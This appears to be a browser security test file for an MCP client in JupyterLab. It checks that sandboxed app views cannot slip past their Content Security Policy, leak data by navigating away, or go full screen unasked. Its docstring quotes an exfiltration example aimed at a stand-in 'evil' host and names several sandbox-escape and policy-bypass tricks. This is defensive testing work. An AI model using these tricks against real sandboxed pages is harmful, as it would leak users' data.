"""An MCP Apps view stays in its sandbox and under its policy (real JupyterLab, real Chromium).

JupyterLab and Chromium start once per test process (tests/lab_browser.py); each test opens its own notebook.

Its Content Security Policy holds whatever its document starts with.

tests/security/hostile_app_server.py serves one view per trick (``PREFIXES``): blanks that a
regex's ``\\s`` takes for blanks and HTML does not (U+00A0, U+001C, U+3000, U+0085), a BOM,
a comment, a title, text or a body before anything else, a legacy doctype, a looser policy
of the view's own. Each view fetches an origin it did not declare; in JupyterLab, in
Chromium, every such fetch is blocked and the origin sees no request. The control view
declares an origin (a name Chromium maps to 127.0.0.1) and reaches it, so a blocked fetch
is the policy's doing, not a broken view. (With the ``<meta>`` left out, the iframe's ``csp``
attribute alone blocks every one of these fetches in Chromium too; measured, not asserted.)

It cannot carry data out by leaving its page (issue 44): ``connect-src 'none'`` stops
fetches, not navigations, and a view could go to ``location = "https://evil/?" + data``, a
``<meta http-equiv=refresh>``, a link, the Navigation API or a ``data:`` page that goes on
(each one reached the origin, measured before the fix). Every such view logs that it ran,
tries, and is closed by the host for trying; the origin sees none of them, nor a
``window.open``, a ``target=_blank`` link, a form, the top or parent frame or a nested frame.
The control view declares its origin as a frame domain, goes there, and arrives.

It cannot go full screen by itself: the probe view of tests/apps/probe_app_server.py, shown
by ``probe-at-load``, takes the focus and asks for full screen as soon as it is initialized
(right after the key press that ran the cell); it is answered "inline", stays in the
notebook, and the host offers the person a button instead; pressing it lays the view out
full screen and tells it so.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.apps.test_apps_browser import ARTIFACTS, PROBE, Origin, into_view
from tests.lab_browser import DECLARABLE, run_notebook
from tests.lab_browser import wait_until as wait

from selenium.webdriver.common.by import By  # noqa: E402

pytestmark = [pytest.mark.node, pytest.mark.timeout(300)]

SERVER = Path(__file__).with_name("hostile_app_server.py")
NAMES = ["nbsp", "x1c", "ideographic", "nel", "bom", "comment", "title", "text", "body", "legacy",
         "own-policy", "declared"]


def open_and_run(browser, lab, name: str, tools: list[str], undeclared: str, declared: str) -> float:
    """Open a new notebook ``name`` that shows the views of ``tools`` and run its cell; the
    ``time.monotonic()`` of that key press (the test's last input on the host page)."""
    return run_notebook(browser, lab, name, [
        "import sys, mcpclient\nfrom IPython.display import display\n"
        f"views = mcpclient.connect([sys.executable, {str(SERVER)!r}, {undeclared!r}, {declared!r}], apps=True)\n"
        f"for name in {tools!r}:\n    display(views.call_tool('view-' + name))\n"
    ])


def view_notes(driver) -> list:
    """The notes under each shown view, in the page's order (their parent is the view's box)."""
    return driver.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output .mcpclient-app-notes")


def test_no_view_document_moves_its_policy_out_of_force(lab, browser):
    origin = Origin()
    declared = origin.url.replace("127.0.0.1", DECLARABLE)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    open_and_run(browser, lab, "views.ipynb", NAMES, origin.url, declared)
    try:
        frames = wait(browser, lambda d: f if len(f := d.find_elements(
            By.CSS_SELECTOR, ".jp-OutputArea-output iframe[sandbox]")) == len(NAMES) else None, 120, "every view")
        seen = {}
        for frame in frames:
            assert (frame.get_attribute("csp") or "").startswith("default-src 'none'; ")  # Chromium's second copy
            into_view(browser, frame)
            assert (browser.execute_script("return window.frameElement") is None)  # another origin than its proxy
            name = wait(browser, lambda d: d.find_element(By.ID, "name").text, 30, "a view")
            seen[name] = wait(browser, lambda d: (t := d.find_element(By.ID, "probe").text) != "pending" and t,
                              30, f"the {name} view's fetch")
            browser.switch_to.default_content()
        browser.save_screenshot(str(ARTIFACTS / "hostile-views.png"))
        assert seen.pop("declared") == "reached", "the control view could not reach its declared origin"
        assert seen == dict.fromkeys(NAMES[:-1], "blocked")
        assert origin.hits == ["/declared"]
    except Exception:
        browser.switch_to.default_content()
        browser.save_screenshot(str(ARTIFACTS / "hostile-views-failure.png"))
        raise


#: The views of ``hostile_app_server.LEAVES`` that try to leave their page with data: the host
#: closes each for trying.
LEAVING = ["location", "replace", "navigation-api", "meta-refresh", "link", "base-link", "data-page"]
#: Those whose trick the sandbox or the view's policy stops where it stands: each logs that it survived.
STAYING = ["window-open", "blank-link", "top", "parent", "frame"]
#: Refused by the view's ``form-action``; Chromium may report the attempted navigation to the
#: proxy too, which then closes the view: either is an end.
EITHER = ["form"]
#: What the host writes in a view's box when it closed the view for trying to load another page.
LEFT = "tried to load another page"


def test_no_view_leaves_its_page_or_opens_another_to_carry_data_out(lab, browser):
    origin = Origin()
    declared = origin.url.replace("127.0.0.1", DECLARABLE)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    open_and_run(browser, lab, "leaving.ipynb", [*LEAVING, *STAYING, *EITHER, "leave-declared"], origin.url, declared)
    try:
        def boxes_by_name(d):
            found = {}
            for notes in view_notes(d):
                ran = [n.text for n in notes.find_elements(By.CSS_SELECTOR, ".mcpclient-app-log") if " ran " in n.text]
                if ran:
                    found[ran[0].rsplit(" ", 1)[-1]] = notes.find_element(By.XPATH, "..")
            return found if set(found) >= {*LEAVING, *STAYING, *EITHER} else None

        boxes = wait(browser, boxes_by_name, 120, "every view ran its trick")
        wait(browser, lambda d: "/leave-declared" in origin.hits, 60, "the control arriving at its declared origin")
        assert [hit for hit in origin.hits if hit != "/leave-declared"] == []
        for name in LEAVING:
            wait(browser, lambda d, box=boxes[name]: LEFT in box.text, 60, f"the {name} view closed for leaving")
        for name in STAYING:
            wait(browser, lambda d, box=boxes[name], name=name: f"survived {name}" in box.text, 60,
                 f"the {name} view still there")
        for name in EITHER:
            wait(browser, lambda d, box=boxes[name], name=name: LEFT in box.text or f"survived {name}" in box.text,
                 60, f"the {name} view's end")
        browser.save_screenshot(str(ARTIFACTS / "leaving-views.png"))
        assert [hit for hit in origin.hits if hit != "/leave-declared"] == [], origin.hits
    except Exception:
        browser.switch_to.default_content()
        browser.save_screenshot(str(ARTIFACTS / "leaving-views-failure.png"))
        raise


def test_a_view_does_not_go_full_screen_without_the_persons_gesture(lab, browser):
    origin = Origin()
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    run_notebook(browser, lab, "fullscreen.ipynb", [
        f"import sys, mcpclient\nprobe = mcpclient.connect([sys.executable, {str(PROBE)!r}, {origin.url + '/probe'!r}, "
        "'https://declared.example'], apps=True)\nprobe.call_tool('probe-at-load')"])
    try:
        frame = wait(browser, lambda d: d.find_elements(By.CSS_SELECTOR, ".jp-OutputArea-output iframe[sandbox]"),
                     120, "the view")[0]

        def answered(d):  # the host's button, or the view laid out full screen
            d.switch_to.default_content()
            if d.find_elements(By.CSS_SELECTOR, ".mcpclient-app-ask-display"):
                return "asked"
            into_view(d, frame)
            mode = d.find_element(By.ID, "mode").text
            d.switch_to.default_content()
            return mode == "fullscreen" and "granted"

        assert wait(browser, answered, 60, "the answer to the view's request") == "asked"
        into_view(browser, frame)
        assert browser.find_element(By.ID, "mode").text == "inline"
        browser.switch_to.default_content()
        width, page_width = browser.execute_script(
            "return [arguments[0].getBoundingClientRect().width, window.innerWidth];", frame)
        assert width < page_width  # still in the notebook
        assert not [b for b in browser.find_elements(By.CSS_SELECTOR, ".mcpclient-app-back") if b.is_displayed()]
        asked = browser.find_element(By.CSS_SELECTOR, ".mcpclient-app-ask-display")
        assert asked.text.startswith("The view asks to go full screen")
        browser.save_screenshot(str(ARTIFACTS / "fullscreen-asked.png"))
        asked.find_element(By.TAG_NAME, "button").click()  # the person's own gesture, on the host's side
        into_view(browser, frame)
        wait(browser, lambda d: any(change.get("displayMode") == "fullscreen"
                                    for change in json.loads(d.find_element(By.ID, "context").text)),
             30, "the view told it is full screen")
        browser.switch_to.default_content()
        left, width, page_width = browser.execute_script(
            "const r = arguments[0].getBoundingClientRect(); return [r.left, r.width, window.innerWidth];", frame)
        assert (left, round(width)) == (0, page_width)
        back = [b for b in browser.find_elements(By.CSS_SELECTOR, ".mcpclient-app-back") if b.is_displayed()]
        assert [b.text for b in back] == ["Exit full screen"]
        back[0].click()
    except Exception:
        browser.switch_to.default_content()
        browser.save_screenshot(str(ARTIFACTS / "fullscreen-failure.png"))
        raise
